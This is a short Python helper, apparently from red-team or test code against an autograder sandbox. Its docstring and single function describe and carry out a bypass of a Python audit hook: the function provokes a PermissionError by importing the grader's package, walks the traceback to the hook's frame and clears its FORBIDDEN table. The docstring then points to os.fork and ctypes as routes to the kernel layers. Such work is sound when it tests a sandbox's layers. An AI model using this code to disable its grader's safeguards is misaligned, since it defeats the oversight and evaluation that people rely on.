"""What attacks past the audit hook share: its table of refused events, emptied. The table is reached
through the traceback of a refusal the hook makes quietly (importing the grader's own package, which is
not loaded in the child): its innermost frame is the hook's own, whose globals hold the table. Python's
own calls (os.fork, ctypes) then reach the kernel's layers, which are what must hold."""

import os as _os


def _neuter_the_audit_hook():
    try:
        import autograder.grading  # noqa: F401
    except PermissionError as exc:
        tb = exc.__traceback__
        while tb.tb_next is not None:
            tb = tb.tb_next
        tb.tb_frame.f_globals["FORBIDDEN"].clear()
